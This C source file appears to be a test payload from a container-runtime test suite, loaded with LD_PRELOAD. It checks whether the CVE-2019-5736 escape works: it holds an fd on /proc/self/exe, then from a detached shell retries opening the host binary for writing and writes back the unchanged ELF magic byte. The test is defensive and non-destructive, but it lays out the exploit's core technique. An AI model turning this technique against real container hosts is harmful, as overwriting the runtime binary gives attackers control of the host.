/* exe-writer: an LD_PRELOAD payload for the CVE-2019-5736 test of exec.
 *
 * Loaded into whatever the container managed to run (through a script whose
 * interpreter is /proc/self/exe), it does what the exploit does: keep an fd
 * on /proc/self/exe, and from a program that outlives the process (a shell,
 * so that nothing runs the binary any more), reopen it for writing,
 * retrying while the binary is busy (ETXTBSY), and write its first byte back
 * unchanged (0x7f of the ELF magic: nothing is altered even when it
 * succeeds).  The outcome goes to $EXE_WRITER_RESULT:
 *     exe=<target of /proc/self/exe>
 *     writable | denied: <the shell's error>
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const char script[] =
    "r=; i=0\n"
    "while [ $i -lt 250 ]; do\n"
    "    if printf '\\177' 1<>/proc/self/fd/$EXE_FD 2>/tmp/exe-writer.err; then r=writable; break; fi\n"
    "    r=\"denied: $(cat /tmp/exe-writer.err)\"\n"
    "    case $r in *busy*) sleep 0.02; i=$((i + 1)) ;; *) break ;; esac\n"
    "done\n"
    "echo \"$r\" >> \"$EXE_WRITER_RESULT\"\n";

__attribute__((constructor)) static void grab(void)
{
    const char *out = getenv("EXE_WRITER_RESULT");
    char target[4096] = "", num[16];
    ssize_t n;
    FILE *f;
    int fd;

    if (!out || getenv("EXE_FD"))
        return;
    fd = open("/proc/self/exe", O_PATH); /* survives exec: no O_CLOEXEC */
    n = readlink("/proc/self/exe", target, sizeof target - 1);
    if (n > 0)
        target[n] = '\0';
    f = fopen(out, "w");
    if (f) {
        fprintf(f, "exe=%s\n", target);
        fclose(f);
    }
    if (fd < 0 || fork() != 0)
        return; /* the process goes on (and exits) */
    setsid();
    snprintf(num, sizeof num, "%d", fd);
    setenv("EXE_FD", num, 1);
    unsetenv("LD_PRELOAD");
    execl("/bin/sh", "sh", "-c", script, (char *) NULL);
    _exit(127);
}
